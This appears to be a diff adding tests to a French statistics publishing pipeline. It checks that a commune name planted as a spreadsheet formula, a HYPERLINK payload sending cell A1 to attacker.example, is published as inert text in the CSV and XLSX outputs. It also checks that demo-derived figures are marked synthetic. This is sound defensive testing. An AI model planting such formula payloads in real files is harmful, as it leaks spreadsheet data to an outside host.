@@ -324,6 +324,49 @@ def test_an_archive_with_zip_slip_member_names_is_refused(world):
     assert not Path("/tmp/abs-diag-zip-slip.txt").exists() and not Path("/etc/abs-diag-zip-slip.txt").exists()
 
 
+# -- hostile names: published, but never as a live formula -----------------------------------------------------
+
+HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"Clisson")'
+
+
+def test_a_commune_name_written_as_a_formula_is_published_as_text(world):
+    import csv
+
+    import openpyxl
+
+    def rename(lines):
+        header = lines[0].split(",")
+        for n, line in enumerate(lines[1:], start=1):
+            cells = line.split(",")
+            if len(cells) == len(header) and cells[1] == "44043":  # Clisson
+                cells[header.index("LIBELLE")] = '"' + HOSTILE.replace('"', '""') + '"'
+                lines[n] = ",".join(cells)
+        return lines
+
+    _edit(member_file(world.root, "cog_communes", "2025"), rename)
+    state = world.refresh()
+    assert state.is_completed(), state.message
+    folder = Path(state.result()["published"])
+    with (folder / "indicateurs-france.csv").open(encoding="utf-8-sig", newline="") as handle:
+        names = {row["nom"] for row in csv.DictReader(handle, delimiter=";")}
+    assert "'" + HOSTILE in names and HOSTILE not in names
+    sheet = openpyxl.load_workbook(folder / "indicateurs-france.xlsx")["indicateurs"]
+    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cells and all(c.data_type == "s" and c.value == HOSTILE for c in cells)
+    assert leftovers(world.data, world.pub) == []
+
+
+def test_a_store_refreshed_from_the_demo_mirror_publishes_figures_marked_synthetic(world):
+    import polars as pl
+
+    # the good world was refreshed from a plain copy of the demo mirror, without any demo flag
+    latest = Path(world.pub) / "indicateurs" / "latest"
+    table = pl.read_parquet(latest / "indicateurs-france.parquet")
+    assert table["demo"].unique().to_list() == [True]
+    text = (latest / "indicateurs-france.csv").read_text(encoding="utf-8-sig")
+    assert text.splitlines()[0].endswith(";données") and "synthétiques (démonstration)" in text
+
+
 # -- kills: the real command in a subprocess, SIGKILL at a chosen moment, then the next run ----------------------
 
 def _command(world: World, prefect_home: Path, cwd: Path) -> Run:
